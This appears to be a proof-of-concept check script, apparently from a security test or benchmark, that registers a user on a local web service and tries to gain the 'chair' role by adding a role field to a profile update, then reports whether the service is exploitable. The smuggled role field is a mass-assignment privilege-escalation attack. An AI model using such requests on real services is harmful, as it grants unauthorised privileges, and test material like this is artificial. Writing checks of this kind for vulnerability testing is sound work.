import os
import sys
import time
import traceback

import httpx

BASE = os.environ.get("BASE_URL", "http://127.0.0.1:8000")
c = httpx.Client(base_url=BASE, timeout=60)


def _fail(t, v, tb):
    traceback.print_exception(t, v, tb)
    os._exit(2)


sys.excepthook = _fail


def done(hit):
    print("exploitable" if hit else "not exploitable")
    sys.exit(0 if hit else 1)


c.post("/members", json={"name": "eve", "password": "eve-password"})
a = {"Authorization": "Bearer " + c.post("/login", json={"name": "eve", "password": "eve-password"}).json()["token"]}
c.patch("/me", json={"city": "x", "role": "chair"}, headers=a)
done(c.get("/me", headers=a).json()["role"] == "chair")
